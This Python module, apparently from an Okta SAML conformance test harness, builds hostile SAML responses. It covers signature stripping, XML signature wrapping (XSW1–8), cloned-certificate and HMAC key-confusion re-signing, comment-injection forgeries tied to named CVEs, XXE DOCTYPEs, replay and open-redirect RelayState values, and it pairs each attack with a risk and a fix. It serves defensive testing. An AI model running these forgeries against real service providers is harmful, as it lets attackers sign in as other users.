"""Hostile SAML responses: small named mutators applied to a genuine Okta response.

Two kinds (``shared/reference/saml.md`` §2.0):

* *validation* cases: the IdP, holding its key, legitimately signs content that is wrong
  (expired, other Audience, unknown InResponseTo …) — :meth:`Mutator.content` changes the
  :class:`ResponseSpec` before signing, for the *victim* (the test user);
* *forgery* cases: an attacker holds a genuine response for their own account (the
  *attacker* NameID) and modifies it after signing, strips the signature, or re-signs with a
  key the app does not trust — :meth:`Mutator.forge` changes the signed bytes. Forged content
  is never re-signed with the trusted key.

Either way the attack wins when the app signs the victim in. Mutators compose with
:class:`Chain`. Usable from a plain script::

    kit = Kit.create(idp, victim="ada@example.com", attacker="mallory@example.com")
    xml = apply(XSW3(), base_spec, kit)
"""

from __future__ import annotations

import copy
import datetime as dt
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, field, replace

from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import rsa
from lxml import etree

from oin_conformance.roles.saml import (
    NS_DS,
    NS_SAML,
    NS_SAMLP,
    STATUS_REQUESTER,
    ResponseSpec,
    SamlIdp,
    new_id,
)
from oin_conformance.state import KeyPair, generate_keypair

A = f"{{{NS_SAML}}}"
P = f"{{{NS_SAMLP}}}"
DS = f"{{{NS_DS}}}"
#: "hours away, not minutes": SPs allow 1-5 minutes of clock skew.
HOURS_AWAY = dt.timedelta(hours=3)
OTHER_SP = "https://other-sp.example"
EVIL_URL = "https://evil.example/phish"
#: The attacker's own domain, appended to the victim's address in truncation attacks.
EVIL_SUFFIX = ".evil.test"


@dataclass(frozen=True)
class Kit:
    """What mutators may use: the IdP, who the attacker is and whom they want to become."""

    idp: SamlIdp
    victim: str
    attacker: str
    rogue: KeyPair
    cloned: KeyPair
    canary_url: str = ""
    #: Each person's attribute statement (name -> values), as Okta would send it for them.
    #: A forgery starts from the attacker's genuine response, attributes included, and
    #: changes NameID *and* attributes to the victim's.
    victim_attributes: Attributes = ()
    attacker_attributes: Attributes = ()

    @classmethod
    def create(
        cls,
        idp: SamlIdp,
        *,
        victim: str,
        attacker: str,
        canary_url: str = "",
        victim_attributes: Mapping[str, Sequence[str]] | None = None,
        attacker_attributes: Mapping[str, Sequence[str]] | None = None,
    ) -> Kit:
        return cls(
            idp=idp,
            victim=victim,
            attacker=attacker,
            rogue=generate_keypair("oin-conformance attacker"),
            cloned=clone_certificate(idp.keypair),
            canary_url=canary_url,
            victim_attributes=_attrs(victim_attributes),
            attacker_attributes=_attrs(attacker_attributes),
        )

    def identity_values(self) -> list[str]:
        """The victim's values that identify them (NameID, and e-mail-like attributes)."""
        values = [self.victim]
        for _, vals in self.victim_attributes:
            values += [v for v in vals if "@" in v and v not in values]
        return values


Attributes = tuple[tuple[str, tuple[str, ...]], ...]


def _attrs(attributes: Mapping[str, Sequence[str]] | None) -> Attributes:
    return tuple((k, tuple(v)) for k, v in (attributes or {}).items())


def clone_certificate(original: KeyPair) -> KeyPair:
    """A new key with a certificate copying the original's subject, issuer, serial, validity."""
    real = original.certificate
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    builder = (
        x509.CertificateBuilder()
        .subject_name(real.subject)
        .issuer_name(real.issuer)
        .public_key(key.public_key())
        .serial_number(real.serial_number)
        .not_valid_before(real.not_valid_before_utc)
        .not_valid_after(real.not_valid_after_utc)
    )
    for ext in real.extensions:
        builder = builder.add_extension(ext.value, critical=ext.critical)
    return KeyPair.from_objects(key, builder.sign(key, hashes.SHA256()))


# --- tree helpers --------------------------------------------------------------------------


def _parse(xml: bytes) -> etree._Element:
    parser = etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False)
    return etree.fromstring(xml, parser=parser)


def _dump(root: etree._Element) -> bytes:
    return etree.tostring(root)


def _assertion(root: etree._Element) -> etree._Element:
    asrt = root.find(A + "Assertion")
    if asrt is None:
        raise ValueError("the response holds no Assertion")
    return asrt


def _own_signature(el: etree._Element) -> etree._Element | None:
    return el.find(DS + "Signature")


def _become(el: etree._Element, kit: Kit) -> None:
    """Evil values: every NameID under ``el`` names the victim, and every attribute the
    victim has carries the victim's values."""
    for nameid in el.iter(A + "NameID"):
        for child in list(nameid):
            nameid.remove(child)
        nameid.text = kit.victim
    wanted = dict(kit.victim_attributes)
    for attr in el.iter(A + "Attribute"):
        values = wanted.get(attr.get("Name", ""))
        if values is None:
            continue
        old = attr.findall(A + "AttributeValue")
        for extra in old[len(values) :]:
            attr.remove(extra)
        for i, value in enumerate(values):
            if i < len(old):
                for child in list(old[i]):
                    old[i].remove(child)
                old[i].text = value
            else:
                etree.SubElement(attr, A + "AttributeValue").text = value


def _unsigned_copy(el: etree._Element) -> etree._Element:
    clone = copy.deepcopy(el)
    for sig in clone.findall(DS + "Signature"):
        clone.remove(sig)
    return clone


# --- the mutators --------------------------------------------------------------------------


@dataclass(frozen=True)
class Mutator:
    """One attack on a SAML response (``attack``: short name; ``risk``; ``fix``)."""

    attack: str = ""
    risk: str = ""
    fix: str = ""

    #: True when the attack starts from a genuine response for the attacker's own account.
    @property
    def forgery(self) -> bool:
        return False

    #: Which signatures the genuine response must carry for the attack to mean anything.
    @property
    def needs(self) -> frozenset[str]:
        return frozenset()

    @property
    def relay_state(self) -> str | None:
        return None

    @property
    def replay(self) -> bool:
        return False

    @property
    def summary(self) -> str:
        """One line: what the hostile response is."""
        return (type(self).__doc__ or self.attack).strip().splitlines()[0]

    def applies_to(self, sign_mode: str) -> bool:
        have = {"both": {"response", "assertion"}, "response": {"response"}}.get(
            sign_mode, {"assertion"} if sign_mode == "assertion" else set()
        )
        return self.needs <= have

    def content(self, spec: ResponseSpec, kit: Kit) -> ResponseSpec:
        """Change what the IdP signs (validation cases)."""
        return spec

    def forge(self, xml: bytes, kit: Kit) -> bytes:
        """Change the signed bytes (forgery cases)."""
        return xml


@dataclass(frozen=True)
class _Forgery(Mutator):
    @property
    def forgery(self) -> bool:
        return True


@dataclass(frozen=True)
class Chain(Mutator):
    """Several mutators applied in order (content changes, then forgeries)."""

    parts: tuple[Mutator, ...] = ()

    def __post_init__(self) -> None:
        if not self.attack:
            object.__setattr__(self, "attack", "+".join(p.attack for p in self.parts))
            object.__setattr__(self, "risk", " ".join(p.risk for p in self.parts))
            object.__setattr__(self, "fix", " ".join(p.fix for p in self.parts))

    @property
    def forgery(self) -> bool:
        return any(p.forgery for p in self.parts)

    @property
    def summary(self) -> str:
        return " Then: ".join(p.summary for p in self.parts)

    @property
    def needs(self) -> frozenset[str]:
        return frozenset().union(*(p.needs for p in self.parts))

    @property
    def relay_state(self) -> str | None:
        return next((p.relay_state for p in self.parts if p.relay_state), None)

    @property
    def replay(self) -> bool:
        return any(p.replay for p in self.parts)

    def content(self, spec: ResponseSpec, kit: Kit) -> ResponseSpec:
        for part in self.parts:
            spec = part.content(spec, kit)
        return spec

    def forge(self, xml: bytes, kit: Kit) -> bytes:
        for part in self.parts:
            xml = part.forge(xml, kit)
        return xml


@dataclass(frozen=True)
class StrippedSignature(_Forgery):
    """The attacker's genuine response with every ds:Signature removed, NameID = victim."""

    attack: str = "stripped_signature"
    risk: str = "Signature exclusion: the app verifies a signature only when one is present."
    fix: str = "Treat a missing signature as a failure, never as 'nothing to verify'."

    def forge(self, xml: bytes, kit: Kit) -> bytes:
        root = _parse(xml)
        for sig in list(root.iter(DS + "Signature")):
            parent = sig.getparent()
            assert parent is not None
            parent.remove(sig)
        _become(root, kit)
        return _dump(root)


@dataclass(frozen=True)
class TamperedAfterSigning(_Forgery):
    """The attacker's genuine, signed response with the NameID changed to the victim."""

    attack: str = "tampered_after_signing"
    risk: str = "A signed response can be edited: the digest is not checked against the content."
    fix: str = "Verify the signature (digests and SignatureValue) with a real XML-DSig library."

    def forge(self, xml: bytes, kit: Kit) -> bytes:
        root = _parse(xml)
        _become(root, kit)
        return _dump(root)


@dataclass(frozen=True)
class UntrustedKey(Mutator):
    """The victim's response signed by the attacker's own key, its certificate in KeyInfo."""

    attack: str = "untrusted_key"
    risk: str = "The app trusts whatever certificate the response carries in KeyInfo."
    fix: str = "Verify with the IdP certificate configured in the app; ignore KeyInfo."

    @property
    def forgery(self) -> bool:
        return True

    def content(self, spec: ResponseSpec, kit: Kit) -> ResponseSpec:
        return replace(spec, nameid=kit.victim)

    def forge(self, xml: bytes, kit: Kit) -> bytes:
        return _resign(xml, kit, kit.rogue)


@dataclass(frozen=True)
class ClonedCertificate(UntrustedKey):
    """Re-signed by a new key whose certificate copies the IdP certificate's names and serial."""

    attack: str = "cloned_certificate"
    risk: str = "The app compares certificate names or serials, not the key itself."
    fix: str = "Pin the exact IdP certificate (or its public key / SHA-256 fingerprint)."

    def forge(self, xml: bytes, kit: Kit) -> bytes:
        return _resign(xml, kit, kit.cloned)


def _resign(xml: bytes, kit: Kit, key: KeyPair | None, hmac_key: bytes | None = None) -> bytes:
    """Throw away the genuine signatures and sign again with ``key`` (never the IdP's)."""
    from oin_conformance.roles.saml import sign_response

    if key is not None:
        assert key.key_pem != kit.idp.keypair.key_pem, "forged content is never IdP-signed"
    root = _parse(xml)
    signed = {"response": _own_signature(root) is not None}
    asrt = _assertion(root)
    signed["assertion"] = _own_signature(asrt) is not None
    for sig in list(root.iter(DS + "Signature")):
        parent = sig.getparent()
        assert parent is not None
        parent.remove(sig)
    _become(root, kit)
    mode = "both" if all(signed.values()) else "response" if signed["response"] else "assertion"
    return sign_response(
        root,
        mode,  # type: ignore[arg-type]
        key.key_pem if key else "",
        key.cert_pem if key else "",
        hmac_key=hmac_key,
    )


@dataclass(frozen=True)
class OtherTenant(UntrustedKey):
    """A response from another Okta org (its own issuer and key) naming the victim."""

    attack: str = "other_tenant"
    risk: str = "An admin of any Okta org can sign users in to this app's tenant."
    fix: str = "Bind each tenant to its own IdP entity ID and certificate; check both."

    def content(self, spec: ResponseSpec, kit: Kit) -> ResponseSpec:
        return replace(spec, nameid=kit.victim, issuer="http://www.okta.com/exkOtherTenant0000001")


@dataclass(frozen=True)
class HmacKeyConfusion(_Forgery):
    """Re-signed with HMAC-SHA256, the HMAC key being the IdP's public certificate (PEM)."""

    attack: str = "hmac_key_confusion"
    risk: str = (
        "Algorithm confusion: a verifier that takes the algorithm from the message uses the "
        "public certificate as an HMAC secret, which anyone has."
    )
    fix: str = "Accept only the RSA signature algorithm you expect (rsa-sha256); never HMAC."

    def forge(self, xml: bytes, kit: Kit) -> bytes:
        return _resign(xml, kit, None, hmac_key=kit.idp.cert_pem.encode())


@dataclass(frozen=True)
class CommentInDigestValue(_Forgery):
    """NameID changed to the victim; each DigestValue starts with a comment holding the
    digest of the changed element, followed by the genuine digest (xml-crypto
    CVE-2025-29775: the verifier reads the comment, c14n of SignedInfo drops it)."""

    attack: str = "comment_in_digest_value"
    risk: str = "The digest check reads a comment, so edited content passes as signed."
    fix: str = "Use a maintained XML-DSig library (xmlsec); read DigestValue as its text content."

    def forge(self, xml: bytes, kit: Kit) -> bytes:
        import base64
        import hashlib

        root = _parse(xml)
        asrt = _assertion(root)
        _become(asrt, kit)
        for element in (asrt, root):  # inner signature first: the outer digest covers it
            sig = _own_signature(element)
            if sig is None:
                continue
            digest_el = sig.find(f"{DS}SignedInfo/{DS}Reference/{DS}DigestValue")
            assert digest_el is not None
            # The enveloped-signature transform, in place (a copy loses xmlns:xs).
            index = element.index(sig)
            element.remove(sig)
            c14n = etree.tostring(
                element,
                method="c14n",
                exclusive=True,
                with_comments=False,
                inclusive_ns_prefixes=["xs"],
            )
            element.insert(index, sig)
            forged = base64.b64encode(hashlib.sha256(c14n).digest()).decode()
            genuine = digest_el.text or ""
            digest_el.text = None
            comment = etree.Comment(forged)
            comment.tail = genuine
            digest_el.append(comment)
        return _dump(root)


# XML Signature Wrapping, as SAML Raider builds the variants (reference §2.1).


@dataclass(frozen=True)
class XSW1(_Forgery):
    """An unsigned clone of the Response inside its Signature; the outer one evil, new ID."""

    attack: str = "xsw1"
    risk: str = (
        "Signature wrapping: the signature verifies a hidden copy, the app reads the outer one."
    )
    fix: str = (
        "Read the assertion only from the element the verified signature references, "
        "expect exactly one Assertion, and reject duplicate or nested signed elements."
    )

    @property
    def needs(self) -> frozenset[str]:
        return frozenset({"response"})

    def forge(self, xml: bytes, kit: Kit) -> bytes:
        root = _parse(xml)
        sig = _own_signature(root)
        assert sig is not None
        clone = _unsigned_copy(root)
        self._place(root, sig, clone)
        root.set("ID", new_id())
        _become(_assertion(root), kit)
        return _dump(root)

    def _place(self, root: etree._Element, sig: etree._Element, clone: etree._Element) -> None:
        sig.append(clone)


@dataclass(frozen=True)
class XSW2(XSW1):
    """Like XSW1, with the unsigned clone placed just before the Signature (detached)."""

    attack: str = "xsw2"

    def _place(self, root: etree._Element, sig: etree._Element, clone: etree._Element) -> None:
        sig.addprevious(clone)


@dataclass(frozen=True)
class XSW3(_Forgery):
    """An evil Assertion clone (new ID, unsigned) placed before the genuine Assertion."""

    attack: str = "xsw3"
    risk: str = XSW1.risk
    fix: str = XSW1.fix

    @property
    def needs(self) -> frozenset[str]:
        return frozenset({"assertion"})

    def forge(self, xml: bytes, kit: Kit) -> bytes:
        root = _parse(xml)
        asrt = _assertion(root)
        evil = _unsigned_copy(asrt)
        evil.set("ID", new_id())
        _become(evil, kit)
        self._place(root, asrt, evil)
        return _dump(root)

    def _place(self, root: etree._Element, asrt: etree._Element, evil: etree._Element) -> None:
        asrt.addprevious(evil)


@dataclass(frozen=True)
class XSW4(XSW3):
    """An evil Assertion appended to the Response, the genuine Assertion moved inside it."""

    attack: str = "xsw4"

    def _place(self, root: etree._Element, asrt: etree._Element, evil: etree._Element) -> None:
        root.remove(asrt)
        evil.append(asrt)
        root.append(evil)


@dataclass(frozen=True)
class XSW5(_Forgery):
    """Genuine Assertion made evil in place (new ID); an unsigned untouched copy appended."""

    attack: str = "xsw5"
    risk: str = XSW1.risk
    fix: str = XSW1.fix

    @property
    def needs(self) -> frozenset[str]:
        return frozenset({"assertion"})

    def forge(self, xml: bytes, kit: Kit) -> bytes:
        root = _parse(xml)
        asrt = _assertion(root)
        original = _unsigned_copy(asrt)
        self._evil(asrt, kit)
        sig = _own_signature(asrt)
        assert sig is not None
        self._place(root, asrt, sig, original)
        return _dump(root)

    def _evil(self, asrt: etree._Element, kit: Kit) -> None:
        asrt.set("ID", new_id())
        _become(asrt, kit)

    def _place(
        self,
        root: etree._Element,
        asrt: etree._Element,
        sig: etree._Element,
        original: etree._Element,
    ) -> None:
        root.append(original)


@dataclass(frozen=True)
class XSW6(XSW5):
    """Like XSW5, with the untouched copy inside the genuine Assertion's Signature."""

    attack: str = "xsw6"

    def _place(
        self,
        root: etree._Element,
        asrt: etree._Element,
        sig: etree._Element,
        original: etree._Element,
    ) -> None:
        sig.append(original)


@dataclass(frozen=True)
class XSW7(XSW3):
    """An Extensions element before the Assertion holding an evil clone with the same ID."""

    attack: str = "xsw7"

    def forge(self, xml: bytes, kit: Kit) -> bytes:
        root = _parse(xml)
        asrt = _assertion(root)
        evil = _unsigned_copy(asrt)
        _become(evil, kit)
        ext = etree.Element(P + "Extensions")
        ext.append(evil)
        asrt.addprevious(ext)
        return _dump(root)


@dataclass(frozen=True)
class XSW8(XSW5):
    """Evil values in place (same ID); the untouched copy inside a new Object in the Signature."""

    attack: str = "xsw8"

    def _evil(self, asrt: etree._Element, kit: Kit) -> None:
        _become(asrt, kit)

    def _place(
        self,
        root: etree._Element,
        asrt: etree._Element,
        sig: etree._Element,
        original: etree._Element,
    ) -> None:
        obj = etree.SubElement(sig, DS + "Object")
        obj.append(original)


@dataclass(frozen=True)
class WithoutResponseSignature(_Forgery):
    """Okta signed both: the Response's own signature is removed first, so an app that checks
    only the first signature it finds checks the Assertion's (then the wrapping follows)."""

    attack: str = "without_response_signature"
    risk: str = XSW1.risk
    fix: str = XSW1.fix

    @property
    def needs(self) -> frozenset[str]:
        return frozenset({"response", "assertion"})

    def forge(self, xml: bytes, kit: Kit) -> bytes:
        root = _parse(xml)
        sig = _own_signature(root)
        if sig is not None:
            root.remove(sig)
        return _dump(root)


def _unwrapped(inner: Mutator) -> Chain:
    """``inner`` sent with the outer Response signature removed first (Okta signs both)."""
    return Chain(
        parts=(WithoutResponseSignature(), inner),
        attack=f"{inner.attack}_without_response_signature",
        risk=inner.risk,
        fix=inner.fix,
    )


@dataclass(frozen=True)
class CommentInNameID(_Forgery):
    """Genuine response for ``<victim>.evil.test``; a comment splits the NameID after the victim.

    Exclusive c14n without comments drops the comment, so the signature stays valid; an app
    that reads only the first text node signs in the victim (CVE-2017-11427 and relatives).
    """

    attack: str = "comment_in_nameid"
    risk: str = "The app reads the NameID's first text node and signs in a truncated identity."
    fix: str = "Read the NameID's full text content (all text nodes), or upgrade the SAML library."

    def content(self, spec: ResponseSpec, kit: Kit) -> ResponseSpec:
        # The attacker's own account is ``<victim's address>.evil.test`` (a domain they
        # own): that is the NameID and every e-mail-like attribute Okta sends for them.
        own = set(kit.identity_values())
        victim = dict(kit.victim_attributes)
        attributes = tuple(
            (
                name,
                tuple(
                    victim_value + EVIL_SUFFIX if victim_value in own else value
                    for value, victim_value in zip(values, victim.get(name, values), strict=False)
                ),
            )
            for name, values in spec.attributes
        )
        return replace(spec, nameid=kit.victim + EVIL_SUFFIX, attributes=attributes)

    def forge(self, xml: bytes, kit: Kit) -> bytes:
        root = _parse(xml)
        own = {value + EVIL_SUFFIX: value for value in kit.identity_values()}
        for el in (*root.iter(A + "NameID"), *root.iter(A + "AttributeValue")):
            if el.text in own and len(el) == 0:
                el.text = own[el.text]
                comment = etree.Comment("")
                comment.tail = EVIL_SUFFIX
                el.append(comment)
        return _dump(root)


def _doctype(root: etree._Element, subset: str = "") -> str:
    name = root.tag.split("}")[-1]
    qname = f"{root.prefix}:{name}" if root.prefix else name
    return f"<!DOCTYPE {qname}{f' [{subset}]' if subset else ''}>"


@dataclass(frozen=True)
class DtdExternalEntity(Mutator):
    """The victim's genuine response behind a DOCTYPE whose external entity points at the
    harness's loopback canary (referenced in the NameID; the canary answers nothing, so an
    app that fetches it reads the genuine NameID)."""

    attack: str = "dtd_external_entity"
    risk: str = (
        "XXE: the app resolves entities, so responses can read files or reach internal hosts."
    )
    fix: str = "Parse SAML with DTDs and entity resolution disabled and refuse any DOCTYPE."

    def forge(self, xml: bytes, kit: Kit) -> bytes:
        root = _parse(xml)
        doctype = _doctype(root, f'<!ENTITY oin SYSTEM "{kit.canary_url}">')
        body = _dump(root).decode()
        body = body.replace(f">{kit.victim}</", f">&oin;{kit.victim}</", 1)
        return (doctype + body).encode()


@dataclass(frozen=True)
class DtdInternalEntity(Mutator):
    """The victim's genuine response behind a DOCTYPE declaring an internal entity that holds
    the victim's NameID; the NameID element says ``&who;``.

    Only a parser that reads the DTD and expands entities sees the signed content again (and
    signs the victim in): the same parser expands entity bombs and lets a signature verify
    text the application never shows.
    """

    attack: str = "dtd_internal_entity"
    risk: str = (
        "The app's XML parser expands DTD entities: entity expansion bombs exhaust it, and "
        "signed text and read text can differ (entity-based signature bypasses)."
    )
    fix: str = DtdExternalEntity.fix

    def forge(self, xml: bytes, kit: Kit) -> bytes:
        root = _parse(xml)
        doctype = _doctype(root, f'<!ENTITY who "{kit.victim}">')
        body = _dump(root).decode()
        body = body.replace(f">{kit.victim}</", ">&who;</")
        return (doctype + body).encode()


@dataclass(frozen=True)
class DoctypeOnly(Mutator):
    """The victim's genuine response behind a bare DOCTYPE (no entities at all)."""

    attack: str = "doctype_only"
    risk: str = (
        "The app accepts a DOCTYPE in a SAML response; SAML messages never carry one, and a "
        "parser that allows it is one setting away from entity expansion and XXE."
    )
    fix: str = DtdExternalEntity.fix

    def forge(self, xml: bytes, kit: Kit) -> bytes:
        root = _parse(xml)
        return (_doctype(root) + _dump(root).decode()).encode()


@dataclass(frozen=True)
class Replay(Mutator):
    """The same accepted response posted a second time (from another browser)."""

    attack: str = "replay"
    risk: str = "A captured response (proxy log, browser history) signs its holder in again."
    fix: str = "Remember assertion IDs until their NotOnOrAfter and refuse a second use."

    @property
    def replay(self) -> bool:
        return True


@dataclass(frozen=True)
class RelayStateOpenRedirect(Mutator):
    """A valid response whose RelayState is an off-site URL."""

    attack: str = "relay_state_open_redirect"
    risk: str = "Open redirect: a trusted sign-in hands users on to a phishing site."
    fix: str = "Follow RelayState only to paths on your own site; otherwise go to the home page."

    target: str = EVIL_URL

    @property
    def relay_state(self) -> str | None:
        return self.target


@dataclass(frozen=True)
class RelayStateProtocolRelative(RelayStateOpenRedirect):
    """A valid response whose RelayState is a protocol-relative off-site URL (``//host``)."""

    attack: str = "relay_state_protocol_relative"
    target: str = "//evil.example/phish"


@dataclass(frozen=True)
class ContentChange(Mutator):
    """A validation case: the IdP, holding its key, signs content that is wrong in one way
    (``change``) for the victim; :data:`CONTENT_CHANGES` holds them all."""

    what: str = ""
    change: Callable[[ResponseSpec, Kit], ResponseSpec] = field(
        default=lambda spec, kit: spec, repr=False
    )

    @property
    def summary(self) -> str:
        return self.what

    def content(self, spec: ResponseSpec, kit: Kit) -> ResponseSpec:
        return self.change(spec, kit)


_RECIPIENT_RISK = "A response addressed to another app's ACS is accepted here."
_ISSUER_FIX = "Require an Issuer equal to the configured IdP entity ID."

#: attack -> (what, risk, fix, change): every validation case of the catalogue.
CONTENT_CHANGES: dict[str, ContentChange] = {
    c.attack: c
    for c in (
        ContentChange(
            "unsigned",
            "Anyone can sign in as anyone by posting a hand-written response.",
            "Require a valid signature by the configured IdP certificate on the Response or "
            "Assertion.",
            "A response with no signature anywhere, naming the victim.",
            lambda spec, kit: replace(spec, sign="none"),
        ),
        ContentChange(
            "expired",
            "Old responses stay usable forever.",
            "Refuse responses whose NotOnOrAfter has passed (allow at most a few minutes of skew).",
            "Every time window closed hours ago (Conditions and SubjectConfirmationData).",
            lambda spec, kit: spec.shifted(-HOURS_AWAY),
        ),
        ContentChange(
            "not_yet_valid",
            "Responses minted for the future can be stockpiled.",
            "Refuse responses whose NotBefore is in the future (beyond a few minutes of skew).",
            "Every time window opens hours from now.",
            lambda spec, kit: spec.shifted(HOURS_AWAY),
        ),
        ContentChange(
            "wrong_audience",
            "A response meant for another app (maybe malicious) signs users in here.",
            "Require the Audience to equal your SP entity ID.",
            "Audience is another service provider's entity ID.",
            lambda spec, kit: replace(spec, audience=f"{OTHER_SP}/saml/metadata"),
        ),
        ContentChange(
            "wrong_recipient",
            _RECIPIENT_RISK,
            "Require SubjectConfirmationData/@Recipient to equal your ACS URL exactly.",
            "SubjectConfirmationData Recipient is another app's ACS URL.",
            lambda spec, kit: replace(spec, recipient=f"{OTHER_SP}/saml/acs"),
        ),
        ContentChange(
            "lookalike_recipient",
            _RECIPIENT_RISK,
            "Require SubjectConfirmationData/@Recipient to equal your ACS URL exactly.",
            "Recipient is an attacker URL that contains the ACS URL (passes a substring test).",
            lambda spec, kit: replace(spec, recipient=f"{EVIL_URL}?next={spec.recipient}"),
        ),
        ContentChange(
            "wrong_destination",
            "A response sent to another app is accepted here.",
            "When Destination is present, require it to equal your ACS URL exactly.",
            "Response Destination is another app's ACS URL.",
            lambda spec, kit: replace(spec, destination=f"{OTHER_SP}/saml/acs"),
        ),
        ContentChange(
            "lookalike_destination",
            "A response sent to another app is accepted here.",
            "When Destination is present, require it to equal your ACS URL exactly.",
            "Destination is the ACS URL with a suffix (passes a prefix test, fails an exact one).",
            lambda spec, kit: replace(
                spec, destination=(spec.destination or spec.recipient) + ".evil.example/acs"
            ),
        ),
        ContentChange(
            "wrong_issuer",
            "Responses from another IdP (another customer's Okta) sign users in here.",
            "Require the Issuer to equal the configured IdP entity ID.",
            "Issuer is another Okta app instance (another tenant's IdP).",
            lambda spec, kit: replace(spec, issuer="http://www.okta.com/exkOtherTenant0000001"),
        ),
        ContentChange(
            "missing_issuer",
            "The app cannot tell which IdP issued the response.",
            _ISSUER_FIX,
            "No Issuer element in the Response or the Assertion.",
            lambda spec, kit: replace(spec, issuer=None),
        ),
        ContentChange(
            "no_bearer_confirmation",
            "Assertions meant for other uses (no bearer confirmation) sign users in.",
            "Require a bearer SubjectConfirmation whose Recipient and NotOnOrAfter check out.",
            "The assertion has no SubjectConfirmation (so no bearer Recipient or expiry).",
            lambda spec, kit: replace(spec, bearer=False),
        ),
        ContentChange(
            "non_success_status",
            "The app signs users in from an error response.",
            "Refuse responses whose top-level StatusCode is not ...:status:Success.",
            "A signed assertion inside a Response whose StatusCode is Requester (an error).",
            lambda spec, kit: replace(spec, status=STATUS_REQUESTER),
        ),
        ContentChange(
            "unknown_in_response_to",
            "Responses to other sessions' requests (or stolen ones) are accepted.",
            "When InResponseTo is present, require it to match a request this session sent.",
            "InResponseTo names an AuthnRequest the app never sent.",
            lambda spec, kit: replace(spec, in_response_to=new_id()),
        ),
        ContentChange(
            "sha1_signature",
            "SHA-1 is broken for collision resistance; the OIN requires SHA-256.",
            "Reject rsa-sha1 / sha1 (python3-saml: security.rejectDeprecatedAlgorithm = true).",
            "Signed with RSA-SHA1 and a SHA-1 digest (otherwise valid).",
            lambda spec, kit: replace(spec, sha1=True),
        ),
    )
}

CATALOGUE: tuple[Mutator, ...] = (
    CONTENT_CHANGES["unsigned"],
    StrippedSignature(),
    TamperedAfterSigning(),
    UntrustedKey(),
    ClonedCertificate(),
    OtherTenant(),
    HmacKeyConfusion(),
    CommentInDigestValue(),
    XSW1(),
    XSW2(),
    XSW3(),
    XSW4(),
    XSW5(),
    XSW6(),
    XSW7(),
    XSW8(),
    *(_unwrapped(m) for m in (XSW3(), XSW4(), XSW5(), XSW6(), XSW7(), XSW8())),
    CommentInNameID(),
    DtdExternalEntity(),
    DtdInternalEntity(),
    DoctypeOnly(),
    Replay(),
    CONTENT_CHANGES["expired"],
    CONTENT_CHANGES["not_yet_valid"],
    CONTENT_CHANGES["wrong_audience"],
    CONTENT_CHANGES["wrong_recipient"],
    CONTENT_CHANGES["lookalike_recipient"],
    CONTENT_CHANGES["wrong_destination"],
    CONTENT_CHANGES["lookalike_destination"],
    CONTENT_CHANGES["wrong_issuer"],
    CONTENT_CHANGES["missing_issuer"],
    CONTENT_CHANGES["no_bearer_confirmation"],
    CONTENT_CHANGES["non_success_status"],
    CONTENT_CHANGES["unknown_in_response_to"],
    CONTENT_CHANGES["sha1_signature"],
    RelayStateOpenRedirect(),
    RelayStateProtocolRelative(),
)


def by_name(name: str) -> Mutator:
    for m in CATALOGUE:
        if m.attack == name:
            return m
    raise KeyError(name)


def signed_content(mutator: Mutator, base: ResponseSpec, kit: Kit) -> ResponseSpec:
    """What the IdP signs for this attack: the attacker's own genuine response (NameID and
    attributes) for a forgery, the victim's for a validation case, then ``content``."""
    if mutator.forgery:
        start = replace(base.fresh(), nameid=kit.attacker)
        if kit.attacker_attributes:
            start = replace(start, attributes=kit.attacker_attributes)
    else:
        start = replace(base.fresh(), nameid=kit.victim)
    return mutator.content(start, kit)


def apply(mutator: Mutator, base: ResponseSpec, kit: Kit) -> bytes:
    """The hostile response: genuine content for attacker or victim, changed, signed, forged."""
    return mutator.forge(kit.idp.sign(signed_content(mutator, base, kit)), kit)


def names(mutators: Sequence[Mutator] = CATALOGUE) -> list[str]:
    return [m.attack for m in mutators]
